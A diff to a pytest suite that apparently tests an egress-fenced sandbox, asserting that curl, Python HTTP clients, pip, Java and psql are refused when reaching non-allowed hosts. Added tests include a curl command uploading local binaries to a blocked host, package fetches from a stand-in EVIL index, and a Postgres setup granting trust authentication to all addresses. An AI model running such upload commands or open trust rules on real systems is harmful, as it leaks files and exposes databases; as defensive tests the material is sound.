@@ -15,7 +15,6 @@ from typing import Any, Iterator
 import pytest
 
 from internet import (
-    API,
     EVIL,
     POSTGRES,
     PRIVATE,
@@ -81,7 +80,7 @@ class World:
         self.python = visible(Path(sys.executable), tools)
         python_packages(
             tools, *("httpx httpcore anyio idna certifi h11 h2 hpack hyperframe requests urllib3".split()),
-            *("charset_normalizer websockets grpc jpype _jpype*.so org.jpype.jar typing_extensions.py".split()),
+            *("charset_normalizer websockets grpc jpype _jpype*.so org.jpype.jar pip typing_extensions.py".split()),
         )
         key = make.key(environment.id)["key"]
         self.worker = FencedWorker(self.internet, plane, environment.id, key, folder, POLICY)
@@ -154,7 +153,10 @@ def test_curl(world: World, version: str) -> None:
     substituted(world, f"/curl-{version}")
     refused(world, f"{curl} https://other.test.example/shut-{version}", f"shut-{version}", "403", "other.test.example")
     refused(world, f"{curl} -d x https://other.test.example/open/post-{version}", f"post-{version}", "403", "reading")
+    refused(world, f"{curl} -F file=@/usr/bin/env -F rest=@/usr/bin/git https://other.test.example/open/big-{version}", "big-", "403")
     refused(world, f"{curl} https://{EVIL}/evil-{version}", EVIL, EVIL)
+    # A literal address of an allowed host, without its name.
+    refused(world, f"{curl} -k https://{PRIVATE}/address-{version}", f"address-{version}", "000")
 
 
 def test_httpx_and_requests(world: World) -> None:
@@ -165,7 +167,7 @@ def test_httpx_and_requests(world: World) -> None:
         assert all(API_TOKEN in json.dumps(entry["headers"]) for entry in got(world, mark))
         assert [entry["body"] for entry in got(world, mark) if entry["method"] == "POST"] == [f"token={API_TOKEN}"]
     shut = "python tools/inside/client_httpx.py"
-    refused(world, f"{shut} https://other.test.example/open/py-shut", "py-shut", "httpx 403", "requests 403", "other.test.example")
+    refused(world, f"{shut} https://other.test.example/py-shut", "py-shut", "httpx 403", "requests 403", "other.test.example")
     refused(world, f"{shut} https://{EVIL}/py-evil", EVIL, "httpx error", "requests error")
 
 
@@ -205,7 +207,7 @@ def test_pip(world: World) -> None:
     scrubbed(said)
     assert got(world, "pypi.test.example")
     refused(world, f"{pip} --target /tmp/pip-three --index-url https://{EVIL}/simple 2>&1", EVIL, "greeting")
-    refused(world, f"{pip} --target /tmp/pip-four --index-url https://other.test.example/shut 2>&1", "/shut/greeting", "403")
+    refused(world, f"{pip} --target /tmp/pip-four --index-url https://other.test.example/shut 2>&1", "/shut/greeting", "No matching distribution")
 
 
 def test_git(world: World) -> None:
@@ -250,7 +252,8 @@ def test_java(world: World) -> None:
     scrubbed(said)
     substituted(world, "/java-one")
     both = f"{client} https://other.test.example/java-shut https://{EVIL}/java-evil 2>&1"
-    refused(world, both, "java-", "403", "other.test.example", "error:")
+    refused(world, both, "java-shut", "403", "other.test.example", "error: java.net.ConnectException")
+    assert world.internet.heard(EVIL) == []
 
 
 def test_websocket(world: World) -> None:
@@ -279,7 +282,8 @@ def test_psql(world: World, tmp_path: Path) -> None:
     for host in ("pg.test.example", "private.test.example", PRIVATE):
         said = world.run(f"{psql} -h {host} -c 'select 6 * 7' -At 2>&1")
         assert said.strip() == "42", said
-    refused(world, f"{psql} -h {POSTGRES} -c 'select 1' 2>&1", "nothing-of-it", "failed")
+    refused(world, f"{psql} -h 93.184.215.99 -c 'select 1' 2>&1", "nothing-of-it", "failed")
+    refused(world, f"{psql} -h 10.20.0.6 -c 'select 1' 2>&1", "nothing-of-it", "failed")
     refused(world, f"{psql} -h pg.test.example -p 5433 -c 'select 1' 2>&1", "nothing-of-it", "failed")
     refused(world, f"{psql} -h {EVIL} -c 'select 1' 2>&1", EVIL, EVIL)
 
@@ -327,7 +331,7 @@ def database(world: World, folder: Path) -> str:
         "sh",
         "-c",
         '"$0/bin/initdb" --no-sync --auth=trust --username=agent -D "$1" >/dev/null && '
-        'exec "$0/bin/postgres" -D "$1" -k "" -h "$2" -F',
+        'echo "host all all 0.0.0.0/0 trust" >> "$1/pg_hba.conf" && exec "$0/bin/postgres" -D "$1" -k "" -h "$2" -F',
         str(install),
         str(data),
         f"{POSTGRES},{PRIVATE}",
